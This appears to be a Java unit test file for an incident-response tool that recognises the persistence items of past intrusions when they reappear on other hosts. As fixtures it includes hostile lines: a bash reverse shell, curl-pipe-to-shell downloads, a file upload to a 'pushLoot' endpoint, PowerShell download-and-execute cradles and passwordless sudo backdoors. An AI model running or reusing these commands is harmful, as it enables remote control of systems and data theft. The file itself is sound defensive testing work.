package bzh.vigie.collector.detect.returns;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import bzh.vigie.collector.store.AgentId;
import bzh.vigie.collector.store.Author;
import bzh.vigie.collector.store.Commune;
import bzh.vigie.collector.store.IncidentId;
import bzh.vigie.collector.store.Specimens;
import bzh.vigie.collector.store.Tombstones.Tombstone;
import java.time.Instant;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.OptionalInt;
import java.util.Random;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

/** What something is known again by, and what says nothing. */
final class FeaturesTest {
    private static Set<Feature> of(Map<String, String> fields) {
        return Features.marked(fields, "a").values().keySet();
    }

    /** A drill by others: Windows' own tasks were likely the attacker's, since his ran by rundll32 too. */
    @Test
    void programsThatEverySystemTellsWhatToDoAreNobodysWords() {
        for (String name : List.of("rundll32", "rundll32.exe", "regsvr32", "certutil", "mshta.exe", "python3.13")) {
            assertFalse(OwnParts.isRareName(name), name);
        }
    }

    /** Directives of manuals and files of Windows itself: the same drill took them for the attacker's. */
    @Test
    void wordsOfMakersAreNobodys() {
        for (String word : List.of(
                "permitrootlogin",
                "passwordauthentication",
                "authorizedkeyscommand",
                "cmnd_alias",
                "timestamp_timeout",
                "pam_exec.so",
                "expose_authtok",
                "runtimedirectory",
                "smtpd_recipient_restrictions",
                "rundll32.exe",
                "shell32.dll",
                "mscoree.dll",
                "wscript.exe")) {
            assertTrue(CommonWords.has(word), word);
        }
    }

    /** perlrun(1), ruby(1), node(1): modules are named behind an option without a blank, and folders where they are looked for likewise. */
    @Test
    void modulesThatInterpretersAreToldToLoadAreKnownAgain() {
        Map<String, String> marked = variable("PERL5OPT", "-I/var/lib/.pl7 -Mmysysx");
        for (Map<String, String> seen : List.of(
                variable("NODE_OPTIONS", "--require /var/lib/.pl7/h.js"),
                variable("NODE_OPTIONS", "--import=/var/lib/.pl7/sub/h.mjs"),
                variable("PERL5LIB", "/usr/share/x:/var/lib/.pl7"),
                variable("RUBYOPT", "-I/var/lib/.pl7 -rset"))) {
            assertEquals(Optional.of(Certainty.LIKELY), certainty(marked, seen), seen.toString());
        }
        Map<String, String> module = variable("PERL5OPT", "-Mmysysx1q");
        for (Map<String, String> seen : List.of(
                variable("PERL5OPT", "-w -MCarp -I /usr/share/x -mmysysx1q=all"),
                variable("RUBYOPT", "-W0 -rmysysx1q"),
                cron("* * * * * perl -Mmysysx1q -e 1", "/usr/bin/perl"))) {
            assertEquals(Optional.of(Certainty.LIKELY), certainty(module, seen), seen.toString());
        }
        for (Map<String, String> ordinary : List.of(
                variable("PERL5OPT", "-MCarp=verbose -MIO::Socket"),
                variable("RUBYOPT", "-rbundler/setup"),
                variable("NODE_OPTIONS", "--max-old-space-size=4096 --require /usr/share/nodejs/x/h.js"))) {
            assertEquals(Optional.empty(), certainty(marked, ordinary), ordinary.toString());
            assertEquals(Optional.empty(), certainty(ordinary, variable("PERL5OPT", "-MCarp -MIO::Handle")));
        }
        OwnParts find = OwnParts.marked("perl -e 1; find /srv -maxdepth 1 -regextype sed");
        assertEquals(Set.of(), find.plainWords(), "options of other programs are none of its modules");
        assertEquals(Set.of(), find.ordinaryWords());
    }

    /** githooks(5): these names are every repository's. */
    @Test
    void aHiddenFolderIsKnownByItsNameWhateverLiesInIt() {
        for (String[] pair : new String[][] {
            {"/var/tmp/.X17-lock/kd", "/dev/shm/.X23-lock/tq"},
            {"/usr/lib/.bfm/a", "/opt/.bfm2/z9"},
            {"/var/lib/.sysd/agent.sh", "/usr/share/.sysd3/w"}
        }) {
            Map<String, String> marked = cron("* * * * * " + pair[0], pair[0]);
            assertEquals(
                    Optional.of(Certainty.POSSIBLE), certainty(marked, cron("@reboot " + pair[1], pair[1])), pair[1]);
        }
        Map<String, String> marked = cron("@daily /srv/app/.git/hooks/post-merge", "/srv/app/.git/hooks/post-merge");
        for (String ordinary :
                List.of("/srv/site/.git/hooks/post-merge", "/home/lea/.config/autostart/x.sh", "/opt/.q/run")) {
            assertEquals(Optional.empty(), certainty(marked, cron("@reboot " + ordinary, ordinary)), ordinary);
        }
    }

    /** A drill by others: an administrator's rc.local was possibly the attacker's, since his was called so too. */
    @Test
    void aFileThatEverySystemRunsByItsNameIsNobodysPlace() {
        for (String file : List.of("/etc/rc.local", "/etc/rc.d/rc.local", "/home/lea/.bashrc", "/root/.xsession")) {
            Map<String, String> marked = local(file, "(/opt/.x/beacon &)");
            Map<String, String> ordinary = local(file, "ethtool -K eth0 tso off");
            assertEquals(Optional.empty(), certainty(marked, ordinary), file);
        }
        String own = "/etc/network/if-up.d/00routes";
        assertTrue(certainty(local(own, "(/opt/.x/beacon &)"), local(own, "ethtool -K eth0 tso off"))
                .isPresent());
    }

    private static Map<String, String> local(String file, String does) {
        return Map.of(
                "location",
                "linux.rc-local",
                "name",
                "script",
                "value",
                does,
                "source",
                file,
                "target",
                file,
                "shipped",
                "unowned");
    }

    /** A drill by others: what lay hidden in a hidden folder of an account lay hidden somewhere else. */
    @Test
    void aHiddenNameIsKnownWhereverItLies() {
        Map<String, String> marked = cron("@reboot /root/.vim/.hqzt", "/root/.vim/.hqzt");
        for (String other : List.of("/var/lib/.hqzt", "/home/lea/.config/.hqzt", "/dev/shm/.hqzt2/run")) {
            assertEquals(Optional.of(Certainty.POSSIBLE), certainty(marked, cron("5 * * * * " + other, other)), other);
        }
        for (String ordinary :
                List.of("/home/lea/.vim/pack/run", "/root/.vim/.netrwhist", "/home/lea/.vim/.git/hooks/x")) {
            assertEquals(Optional.empty(), certainty(marked, cron("5 * * * * " + ordinary, ordinary)), ordinary);
        }
    }

    /** A drill by others: a module's name came back as a file's, in a script. */
    @Test
    void aRareWordIsKnownInTheNameOfAFile() {
        Map<String, String> marked = new HashMap<>(cron("diamvx", ""));
        marked.put("location", "linux.kernel.load");
        marked.put("source", "/etc/modules-load.d/local.conf");
        for (String other : List.of(
                "insmod /lib/diamvx.ko",
                "insmod /lib/modules/diamvx.ko.zst",
                "ld.so --preload /usr/lib/lib_diamvx-1.so.2 /bin/true",
                "/opt/diamvx.elf --daemon")) {
            assertTrue(certainty(marked, cron("5 * * * * " + other, "/bin/sh")).isPresent(), other);
        }
        assertEquals(Optional.empty(), certainty(marked, cron("5 * * * * insmod /lib/diamond.ko", "/bin/sh")));
    }

    /** bash(1), Redirection; gawk(1), special files; a share of another host. */
    @Test
    void aHostBehindWhatOpensAConnectionIsAnAddress() {
        for (String opened : List.of(
                "bash -i >& /dev/tcp/sync.timecheck-pool.cfd/9001 0>&1",
                "exec 3<>/dev/udp/sync.timecheck-pool.cfd/53",
                "awk 'BEGIN{s=\"/inet/tcp/0/sync.timecheck-pool.cfd/9001\"}'",
                "rundll32 \\\\sync.timecheck-pool.cfd\\a\\b.dll,c")) {
            Map<String, String> marked = cron("* * * * * " + opened, "/bin/bash");
            assertEquals(
                    Optional.of(Certainty.LIKELY),
                    certainty(marked, cron("@reboot curl -s https://sync.timecheck-pool.cfd/zz | sh", "/usr/bin/curl")),
                    opened);
        }
    }

    private static Map<String, String> variable(String name, String value) {
        return Map.of(
                "location",
                "linux.environment.system",
                "source",
                "/etc/environment",
                "name",
                name,
                "value",
                name + "=" + value,
                "shipped",
                "unowned");
    }

    private static Map<String, String> cron(String value, String target) {
        return Map.of("location", "linux.cron.user", "value", value, "target", target, "shipped", "unowned");
    }

    private static List<Match> matches(Map<String, String> marked, Map<String, String> seen) {
        return matches(marked, Optional.empty(), seen, "b");
    }

    private static List<Match> matches(
            Map<String, String> marked, Optional<AgentId> host, Map<String, String> seen, String agent) {
        Tombstone tombstone = new Tombstone(
                1,
                "2026-001-T1",
                IncidentId.of(2026, 1),
                new Commune("29019"),
                host,
                "k",
                marked,
                Instant.EPOCH,
                true,
                Optional.empty(),
                new Author("x", "y"));
        return new Marked(List.of(tombstone)).matches(Features.seen(seen, agent));
    }

    private static Optional<Certainty> certainty(Map<String, String> marked, Map<String, String> seen) {
        return matches(marked, seen).stream().findFirst().map(Match::certainty);
    }

    /** Third drill: the attack's root certificate came back under another name, and again with its key under another subject. */
    @Test
    void anAuthorityIsKnownByItsCertificateAndByItsKey() {
        String certificate = "SHA256:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU";
        String key = "SHA256:ypeBEsobvcr6wjGzmiPcTaeG7/gUfE5yuYB3ha/uSLs";
        String other = "SHA256:ungWv48Bz+pBQUDeXa4iI7ADYaOWF3qctBD/YfIAFa0";
        Map<String, String> marked =
                authority("CN=Racine AG", "/usr/local/share/ca-certificates/ag.crt", certificate, key);
        String place = "/etc/pki/ca-trust/source/anchors/relais.pem";
        assertEquals(
                Optional.of(Certainty.CERTAIN), certainty(marked, authority("CN=Racine AG", place, certificate, key)));
        assertEquals(Optional.of(Certainty.CERTAIN), certainty(marked, authority("CN=Relais", place, other, key)));
        assertEquals(
                Optional.empty(), certainty(marked, authority("CN=Commune", place, other, "SHA256:" + "b".repeat(43))));
    }

    private static Map<String, String> authority(String subject, String source, String certificate, String key) {
        String value = "issuer=%s from=2026-12-02 to=2036-11-29 %s key=%s".formatted(subject, certificate, key);
        return Map.of(
                "location",
                "linux.certificate.authority",
                "name",
                subject,
                "value",
                value,
                "source",
                source,
                "shipped",
                "unowned");
    }

    /** A drill by others: one digit of a hidden folder's name hid it. */
    @Test
    void anotherNumberHidesNoHiddenFolder() {
        String path = "/root/.configrc7/a/upd";
        Map<String, String> marked = cron("5 6 * * 0 " + path, path);
        for (String other :
                List.of("/home/lea/.configrc9/a/upd", "/tmp/.configrc12/a/upd", "/dev/shm/.configrc/a/upd")) {
            assertEquals(Optional.of(Certainty.LIKELY), certainty(marked, cron("@reboot " + other, other)), other);
        }
        String tail = "/var/tmp/.configrc5/b/sync";
        assertEquals(Optional.of(Certainty.POSSIBLE), certainty(marked, cron("@daily " + tail, tail)));
        String unix = "/tmp/.X26-unix/.rsync/c/aptitude";
        String next = "/tmp/.X27-unix/.rsync/c/aptitude";
        assertEquals(
                Optional.of(Certainty.POSSIBLE),
                certainty(cron("0 1 * * * " + unix, unix), cron("0 2 * * * " + next, next)));
    }

    @Test
    void numbersOfVersionsAreNobodys() {
        String node = "/home/lea/.nvm/versions/node/v20.11.1/bin/node";
        String other = "/home/max/.nvm/versions/node/v18.2.0/bin/node";
        assertEquals(Optional.empty(), certainty(cron("@reboot " + node, node), cron("@reboot " + other, other)));
        String cache = "/home/lea/.cache7/app/run";
        String usual = "/home/max/.cache/app/run";
        assertEquals(Optional.empty(), certainty(cron("@reboot " + cache, cache), cron("@reboot " + usual, usual)));
    }

    private static Map<String, String> item(String location, String name, String value) {
        return Map.of("location", location, "name", name, "value", value, "source", "/etc/" + name, "enabled", "true");
    }

    /** A drill by others: the password of an account in a record of it (systemd's userdbd(8)), and a share opened to the same address. */
    @Test
    void aPasswordIsKnownInARecordAndAnAddressInAnExport() {
        Map<String, String> password = item(
                "linux.account.password", "sysbkp", "password=set scheme=6 digest=bcd999bb74ee changed=20300 expires=");
        Map<String, String> inRecord =
                item("linux.account.record", "password lpsvc.user-privileged", "set scheme=6 digest=bcd999bb74ee");
        assertEquals(Optional.of(Certainty.CERTAIN), certainty(password, inRecord));
        assertEquals(Optional.of(Certainty.CERTAIN), certainty(inRecord, password));
        assertEquals(
                Optional.empty(),
                certainty(
                        password, item("linux.account.record", "password lpsvc", "set scheme=6 digest=0cd999bb74ee")));
        Map<String, String> share = item("linux.share.nfs", "/ 203.0.113.90", "rw,no_root_squash,no_subtree_check");
        assertEquals(
                Optional.of(Certainty.LIKELY),
                certainty(share, item("linux.share.nfs", "/home ::ffff:203.0.113.90", "rw,insecure,anonuid=0")));
        assertEquals(Optional.empty(), certainty(share, item("linux.share.nfs", "/home 203.0.113.91", "rw,anonuid=0")));
    }

    /** A drill by others: the same right in another file and spelling, and the account that it names opened on another host. */
    @Test
    void aRightIsKnownByWhatItGivesAndWhomItNames() {
        Map<String, String> right = item("linux.sudoers", "games ALL", "games ALL=(ALL) NOPASSWD:ALL");
        assertEquals(
                Optional.of(Certainty.LIKELY),
                certainty(right, item("linux.sudoers", "games ALL ", "games ALL = (ALL:ALL) NOPASSWD: ALL")));
        for (Map<String, String> opened : List.of(
                item("linux.sudoers", "games ALL", "games ALL=(ALL) /usr/bin/id"),
                item("linux.account.passwd", "games", "uid=5 gid=60 home=/usr/games shell=/bin/bash system-account"),
                item("linux.account.password", "games", "password=set scheme=y digest=27c53f54f89d"),
                item("linux.account.group", "sudo/games", "sudo"),
                Map.of("location", "linux.ssh.authorized-keys", "user", "games", "name", "SHA256:x", "value", "x"))) {
            assertEquals(Optional.of(Certainty.POSSIBLE), certainty(right, opened), opened.toString());
        }
        for (Map<String, String> usual : List.of(
                Map.of(
                        "location",
                        "linux.account.passwd",
                        "name",
                        "games",
                        "value",
                        "uid=5 no-shell",
                        "enabled",
                        "false"),
                item("linux.account.password", "games", "password=none changed=20000 expires="),
                item("linux.account.passwd", "lea", "uid=1000 gid=1000 home=/home/lea shell=/bin/bash"),
                item("linux.sudoers", "%sudo ALL", "%sudo ALL=(ALL:ALL) ALL"))) {
            assertEquals(Optional.empty(), certainty(right, usual), usual.toString());
        }
        Map<String, String> person = item("linux.sudoers", "accueil ALL", "accueil ALL=(ALL) NOPASSWD:ALL");
        for (Map<String, String> usual : List.of(
                item("linux.account.passwd", "accueil", "uid=1001 gid=1001 home=/home/accueil shell=/bin/bash"),
                item("linux.account.password", "accueil", "password=set scheme=y digest=27c53f54f89d"),
                item("linux.account.group", "lpadmin/accueil", "lpadmin"),
                item("linux.sudoers", "accueil /sbin/reboot", "accueil ALL=(root) /sbin/reboot"),
                Map.of("location", "linux.ssh.authorized-keys", "user", "accueil", "name", "SHA256:x", "value", "x"))) {
            assertEquals(
                    Optional.empty(), certainty(person, usual), "a person's account is called so elsewhere: " + usual);
        }
        assertEquals(
                Optional.of(Certainty.LIKELY),
                certainty(
                        item("linux.account.passwd", "accueil", "uid=1007 gid=1007 home=/home/accueil shell=/bin/bash"),
                        item(
                                "linux.account.passwd",
                                "accueil",
                                "uid=1002 gid=1002 home=/home/accueil shell=/bin/bash")),
                "where the account itself is marked, its name is a feature");
        Map<String, String> root = item("linux.sudoers", "root ALL", "root ALL=(ALL) NOPASSWD: /usr/bin/id");
        assertEquals(
                Optional.empty(),
                certainty(root, item("linux.account.passwd", "root", "uid=0 gid=0 home=/root shell=/bin/bash")));
        Map<String, String> key =
                Map.of("location", "linux.ssh.authorized-keys", "user", "lea", "name", "SHA256:x", "value", "x");
        assertEquals(
                Optional.empty(),
                certainty(key, item("linux.account.passwd", "lea", "uid=1000 gid=1000 home=/home/lea shell=/bin/bash")),
                "the attacker's key may lie in anybody's home");
    }

    private static Map<String, String> program(
            String location, String name, String value, String source, String target) {
        Map<String, String> fields = new HashMap<>(Map.of(
                "location", location,
                "name", name,
                "value", value,
                "source", source,
                "enabled", "true",
                "shipped", "unowned",
                "signature", "unsigned"));
        if (!target.isEmpty()) {
            fields.put("target", target);
            fields.put("sha256", "5a".repeat(32));
            fields.put("imphash", "9d".repeat(16));
            fields.put("original_name", "x" + SystemPrograms.name(target) + ".exe");
            fields.put("shape", "1:" + name);
        }
        return fields;
    }

    /** A backup or an ftp account comes with Debian; no Windows has one, so that there its name is somebody's. */
    @Test
    void anAccountOfALinuxIsNoneOfAWindows() {
        for (String name : List.of("svc_maj", "backup", "ftp", "sync")) {
            assertEquals(
                    certainty(local("svc_maj", 1003), local("svc_maj", 1007)),
                    certainty(local(name, 1003), local(name, 1007)),
                    name);
        }
        assertEquals(Optional.empty(), certainty(local("Invité", 1003), local("Invité", 1007)));
    }

    private static Map<String, String> local(String name, int rid) {
        return Map.of("location", "windows.account.local", "name", name, "value", "RID " + rid, "enabled", "true");
    }

    /** A drill by others: another customer's Atera at its usual place, with his own account, was certain. */
    @Test
    void whatIsAMakersOfRemoteAccessIsNobodys() {
        String files = "C:\\Program Files\\";
        String atera = files + "ATERA Networks\\AteraAgent\\AteraAgent.exe";
        String services = "HKLM\\SYSTEM\\CurrentControlSet\\Services\\";
        String splashtop = files.replace("Files", "Files (x86)") + "Splashtop\\Splashtop Remote\\Server\\SRService.exe";
        String mesh = "/usr/local/mesh_services/meshagent/meshagent";
        String desk = "/opt/rustdesk/rustdesk";
        for (Map<String, String> makers : List.of(
                program("windows.remote.service", "atera AteraAgent", "", services + "AteraAgent", atera),
                program("windows.service", "ImagePath", atera + " (auto, LocalSystem)", services + "AteraAgent", atera),
                program(
                        "windows.service",
                        "ImagePath",
                        splashtop + " (auto)",
                        services + "SplashtopRemoteService",
                        splashtop),
                program(
                        "windows.run",
                        "Uninstall",
                        "MsiExec.exe /X{B7C5EA94-B96A-41F5-BE95-25D78B486678}",
                        "HKLM\\a",
                        atera),
                program(
                        "linux.systemd.service",
                        "meshagent.service:ExecStart",
                        mesh + " --installedByUser=0",
                        "/lib/systemd/system/meshagent.service",
                        mesh),
                program(
                        "linux.systemd.service",
                        "rustdesk.service:ExecStart",
                        desk + " --service",
                        "/etc/systemd/system/rustdesk.service",
                        desk))) {
            for (String signature : List.of("unsigned", "valid")) {
                Map<String, String> other = new HashMap<>(makers);
                other.put("signature", signature);
                Optional<Certainty> certainty = certainty(makers, other);
                assertTrue(certainty.filter(each -> each != Certainty.POSSIBLE).isEmpty(), makers + " " + certainty);
            }
        }
        Map<String, String> service =
                program("windows.remote.service", "atera AteraAgent", "", services + "AteraAgent", atera);
        assertEquals(Optional.empty(), certainty(service, service), "anybody's");
        Map<String, String> unit = program(
                "linux.systemd.service",
                "rustdesk.service:ExecStart",
                desk + " --service",
                "/etc/systemd/system/rustdesk.service",
                desk);
        assertEquals(Optional.of(Certainty.POSSIBLE), certainty(unit, unit), "nothing is signed there");
        Map<String, String> renamed =
                program("windows.run", "Print", "C:\\Users\\a\\p.exe", "HKCU\\Run", "C:\\Users\\a\\p.exe");
        assertEquals(
                Optional.of(Certainty.POSSIBLE), certainty(service, renamed), "its maker's file under another name");
        assertEquals(
                Optional.of(Certainty.CERTAIN),
                certainty(renamed, service),
                "one that was marked and is called so now");
        String implant = "C:\\Users\\Public\\AteraAgent.exe";
        Map<String, String> called = program("windows.run", "Atera", implant, "HKCU\\Run", implant);
        assertEquals(
                Optional.of(Certainty.CERTAIN),
                certainty(called, called),
                "only called so, where no installer puts it");
    }

    @Test
    void aProductOfRemoteAccessIsKnownByItsAccountAlone() {
        Map<String, String> marked = item(
                "windows.remote.setting",
                "atera 001Q300000aBcDeIAK",
                "AccountId=001Q300000aBcDeIAK\nIntegratorLogin=paul.kerneis1987@gmail.com\nServerUrl=agent-api.atera.com");
        assertEquals(
                Optional.of(Certainty.CERTAIN),
                certainty(
                        marked,
                        program(
                                "windows.task",
                                "u",
                                "msiexec /i s.msi /qn AccountId=001Q300000aBcDeIAK",
                                "C:\\t",
                                "C:\\Windows\\System32\\msiexec.exe")));
        Map<String, String> login =
                item("windows.remote.setting", "atera x", "IntegratorLogin=Paul.Kerneis1987@gmail.com");
        assertEquals(Optional.of(Certainty.CERTAIN), certainty(marked, login));
        for (Map<String, String> other : List.of(
                item(
                        "windows.remote.setting",
                        "atera 001Q300000zYxWvIAK",
                        "AccountId=001Q300000zYxWvIAK\nIntegratorLogin=support@infogerance.example\nServerUrl=agent-api.atera.com"),
                item("windows.remote.setting", "teamviewer 987654321", "OwningManagerAccountName=mairie@gmail.com"),
                item("linux.cron.d", "a", "0 4 * * * root mail -s ok mairie@gmail.com"))) {
            assertTrue(
                    certainty(marked, other)
                            .filter(each -> each != Certainty.POSSIBLE)
                            .isEmpty(),
                    other.toString());
        }
        Map<String, String> relay = item(
                "windows.remote.tool",
                "screenconnect instance-ab12cd-relay.screenconnect.com",
                "h=instance-ab12cd-relay.screenconnect.com\np=443");
        Map<String, String> other = item(
                "windows.remote.tool",
                "screenconnect instance-xy98zw-relay.screenconnect.com",
                "h=instance-xy98zw-relay.screenconnect.com\np=443");
        assertEquals(Optional.of(Certainty.CERTAIN), certainty(relay, relay));
        assertEquals(Optional.empty(), certainty(relay, other), "another customer's");
    }

    /** The same: OneDrive's own class was possible on every disk, since the attacker's library had stood there. */
    @Test
    void aPlaceSaysNothingWhereWhatIsThereIsVouchedForOrMissing() {
        Map<String, String> marked = new HashMap<>(Map.of(
                "location", "windows.com.class",
                "source", "HKU\\S-1-5-21-1-2-3-1001\\Software\\Classes\\CLSID\\{F241C880-6982-4CE5-8CF7-7085BA96DA5A}",
                "name", "InprocServer32",
                "value", "C:\\Users\\Public\\vlq.dll",
                "target", "C:\\Users\\Public\\vlq.dll"));
        Map<String, String> seen = new HashMap<>(marked);
        String file = "C:\\Users\\lea\\AppData\\Local\\Microsoft\\OneDrive\\FileSyncShell64.dll";
        seen.putAll(Map.of("value", file, "target", file, "signature", "unsigned"));
        assertEquals(Optional.of(Certainty.POSSIBLE), certainty(marked, seen));
        seen.put("traits", "target-missing");
        assertEquals(Optional.empty(), certainty(marked, seen));
        seen.put("traits", "");
        seen.put("signature", "valid");
        assertEquals(Optional.empty(), certainty(marked, seen));
        seen.put("signature", "unsigned");
        seen.put("shipped", "as-packaged");
        assertEquals(Optional.empty(), certainty(marked, seen));
    }

    /**
     * A copy of a packaged program is known by its hash in another hidden folder, and whoever uses the program is not: fields as agents tell
     * them, where the package is that of what runs and the file that names it is nobody's.
     */
    @Test
    void aCopyOfAPackagedProgramMakesNobodyWhoUsesItARecurrence() {
        String hash = "ab".repeat(32);
        for (String program : List.of("bash", "sudo", "busybox", "python3.13", "screen")) {
            Map<String, String> copy = Map.of(
                    "location",
                    "linux.file.rights",
                    "name",
                    program,
                    "source",
                    "/var/tmp/.x/" + program,
                    "target",
                    "/var/tmp/.x/" + program,
                    "sha256",
                    hash,
                    "shipped",
                    "unowned",
                    "traits",
                    "superuser\ntarget-unowned");
            for (String location :
                    List.of("linux.account.passwd", "linux.cron.d", "linux.sudoers", "linux.session.start")) {
                Map<String, String> user = Map.of(
                        "location",
                        location,
                        "name",
                        "root",
                        "source",
                        "/etc/passwd",
                        "target",
                        "/usr/bin/" + program,
                        "sha256",
                        hash,
                        "package",
                        program,
                        "shipped",
                        "unowned");
                assertEquals(List.of(), matches(copy, user), program + " " + location);
                Map<String, String> changed = new HashMap<>(user);
                changed.put("shipped", "modified");
                assertEquals(List.of(), matches(copy, changed), "in a packaged file that an administrator changed");
                changed.put("traits", "target-modified");
                assertEquals(Optional.of(Certainty.CERTAIN), certainty(copy, changed), "put over the packaged one");
            }
            assertEquals(
                    List.of(),
                    matches(copy, Map.of("Image", "/usr/bin/" + program, "sha256", hash, "Package", program)),
                    program);
            Map<String, String> again = new HashMap<>(copy);
            again.put("source", "/opt/.y/" + program);
            again.put("target", "/opt/.y/" + program);
            assertEquals(Optional.of(Certainty.CERTAIN), certainty(copy, again), program);
        }
    }

    /** Fourth drill: a town hall's own rc.local and PAM line were likely, another customer's MeshCentral certain. */
    @Test
    void whatSystemsAndMakersSayIsNoAttackers() {
        // of pam_exec(8), with its options in any order and number
        String snd = "/usr/lib/pam-x/snd.sh";
        String mount = "/usr/local/sbin/mount-partage";
        for (String[] said : List.of(
                new String[] {"session optional pam_exec.so quiet ", "session optional pam_exec.so quiet "},
                new String[] {
                    "auth [success=ok default=ignore] pam_exec.so expose_authtok quiet stdout seteuid ",
                    "auth [success=ok default=ignore] pam_exec.so seteuid expose_authtok stdout quiet "
                })) {
            Map<String, String> ours = new HashMap<>(item("linux.pam", "pam.d/sshd", said[0] + snd));
            ours.put("target", snd);
            Map<String, String> theirs = new HashMap<>(item("linux.pam", "pam.d/login", said[1] + mount));
            theirs.put("target", mount);
            assertEquals(Optional.empty(), ordinary(ours, theirs), said[0]);
        }
        // a unit of systemd's package runs rc.local wherever there is one (systemd-rc-local-generator(8))
        String local = "/etc/rc.local";
        Map<String, String> script = program("linux.boot.script", local, local, local, local);
        Map<String, String> unit = program(
                "linux.systemd.service",
                "rc-local.service:ExecStart",
                local + " start",
                "/usr/lib/systemd/system/rc-local.service",
                local);
        unit.put("package", "systemd");
        unit.put("shipped", "unowned");
        for (Map<String, String> marked : List.of(script, unit)) {
            for (Map<String, String> seen : List.of(script, unit)) {
                Map<String, String> other = new HashMap<>(seen);
                other.put("sha256", "77".repeat(32));
                other.put("imphash", "79".repeat(16));
                assertTrue(
                        matches(marked, other).stream()
                                .noneMatch(match -> match.features().contains(Feature.PATH)),
                        marked + " " + other);
            }
        }
        // agent.ashx is the page of every MeshCentral; a tenant's number in a path is somebody's
        Map<String, String> mesh = mesh("wss://mesh.support-it-eu.top:443/agent.ashx", "0x8F2C11D0A7734B1E");
        assertEquals(
                Optional.empty(),
                ordinary(mesh, mesh("wss://mesh.infogerance.fr:443/agent.ashx", "0xAA11BB22CC33DD44")));
        assertEquals(
                Optional.of(Certainty.CERTAIN),
                certainty(mesh, mesh("wss://mesh.support-it-eu.top:8443/agent.ashx", "0xAA11BB22CC33DD44")));
        assertEquals(
                Optional.of(Certainty.CERTAIN),
                certainty(
                        mesh("https://a.example/t/98f4e1c2", "0x8F2C11D0A7734B1E"),
                        mesh("https://b.example/t/98f4e1c2", "0xAA11BB22CC33DD44")));
    }

    private static Map<String, String> mesh(String server, String id) {
        return Map.of(
                "location",
                "linux.remote.tool",
                "name",
                "meshagent " + id + " " + server,
                "value",
                "MeshID=" + id + "\nMeshServer=" + server + "\nMeshType=2",
                "source",
                "/usr/local/mesh_services/meshagent/meshagent.msh");
    }

    /** Services that MITRE ATT&CK names under T1102 and T1567, of which a path or a token, and not the host, says whose they are. */
    @Test
    void aServiceThatEverybodyCallsIsNobodysHost() {
        for (String host : List.of(
                "api.telegram.org",
                "discord.com",
                "hooks.slack.com",
                "pastebin.com",
                "content.dropboxapi.com",
                "drive.google.com",
                "graph.microsoft.com",
                "api.github.com",
                "ifconfig.me")) {
            String marked =
                    "*/9 * * * * root curl -s https://" + host + "/k7Qz41/pushLoot?c=-88123 -F f=@/var/.zq | sh";
            String bot = "30 6 * * 1 root curl -m 20 https://" + host + "/alertes/disque -d texte=plein";
            assertEquals(Optional.empty(), ordinary(scheduled("zq", marked), scheduled("alerte", bot)), host);
        }
        // a name that anybody gets there is one's own
        String tunnel = "@reboot root curl -s https://zq-mill-herb.trycloudflare.com/a | sh";
        assertTrue(ordinary(
                        scheduled("zq", tunnel),
                        scheduled("other", "5 5 * * * root wget -qO- https://zq-mill-herb.trycloudflare.com/b"))
                .isPresent());
    }

    /** Resolvers that Cloudflare, Google, Quad9, OpenDNS and FDN publish. */
    @Test
    void aResolverThatAnybodyAsksIsNobodysAddress() {
        for (String address :
                List.of("1.1.1.1", "8.8.4.4", "9.9.9.9", "208.67.222.222", "80.67.169.12", "2606:4700:4700::1111")) {
            String marked = "*/9 * * * * root ping -c1 -W2 " + address + " && /var/lib/.zq/pushLoot.sh k7Qz41";
            String servers = "DNS=192.0.2.1 " + address;
            assertEquals(
                    Optional.empty(),
                    ordinary(scheduled("zq", marked), item("linux.network.name-server", "DNS", servers)),
                    address);
        }
    }

    private static Map<String, String> scheduled(String name, String value) {
        return item("linux.cron.system", "cron.d/" + name, value);
    }

    /** Certainty, if it is more than possible. */
    private static Optional<Certainty> ordinary(Map<String, String> marked, Map<String, String> seen) {
        return certainty(marked, seen).filter(each -> each != Certainty.POSSIBLE);
    }

    /** The package that such an item names is that of the file, such as /etc/crontab, and not of the program. */
    @Test
    void aProgramOfNobodyIsKnownWhereAPackagedFileRunsIt() {
        String hash = "cd".repeat(32);
        Map<String, String> line = Map.of(
                "location", "linux.cron.system",
                "name", "/opt/z/zz",
                "value", "* * * * * root /opt/z/zz",
                "source", "/etc/crontab",
                "target", "/opt/z/zz",
                "sha256", hash,
                "package", "cron",
                "shipped", "unowned",
                "traits", "target-unowned");
        assertEquals(Set.of(hash), Features.seen(line, "a").values().get(Feature.FILE));
    }

    @Test
    void commandsThatDoTheSameAreOne() {
        CommandWords one = CommandWords.of(
                "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')\"");
        for (String same : List.of(
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoProfile -WindowStyle Hidden -Command iex(new-object net.webclient).('Down'+'loadString').Invoke('x')",
                "p^owershell -w hidden -nop \"i`ex (New-Object Net.WebClient).DownloadString('https://203.0.113.7:8443/q/r')\"")) {
            assertTrue(one.likeness(CommandWords.of(same)) >= Marked.ALIKE, one + " " + CommandWords.of(same));
        }
        for (String other : List.of(
                "powershell -NoProfile -ExecutionPolicy Bypass -File \\\\srv\\netlogon\\map.ps1",
                "C:\\Program Files\\GLPI-Agent\\glpi-agent.exe --daemon",
                "curl -fsS -m 10 https://ping.example.org")) {
            assertTrue(one.likeness(CommandWords.of(other)) < 50, other);
        }
        String host = "C:\\Windows\\System32\\svchost.exe";
        Map<String, String> service = Map.of(
                "location", "windows.service", "target", host, "value", host + " -k netsvcs -p (auto, LocalSystem)");
        assertTrue(Features.marked(service, "a").commands().isEmpty());
        assertFalse(of(service).contains(Feature.CONTENT));
        assertFalse(CommandWords.of("0 4 * * * root /usr/bin/updatedb").tells());
    }

    private static Set<String> addresses(Map<String, String> fields, boolean marked) {
        Features features = marked ? Features.marked(fields, "a") : Features.seen(fields, "a");
        return features.values().getOrDefault(Feature.ADDRESS, Set.of());
    }

    @Test
    void anAddressOfMailIsAFeatureAndOneOfASystemIsNot() {
        Map<String, String> fields = Map.of(
                "location", "linux.cron.system",
                "target", "/usr/bin/mail",
                "value",
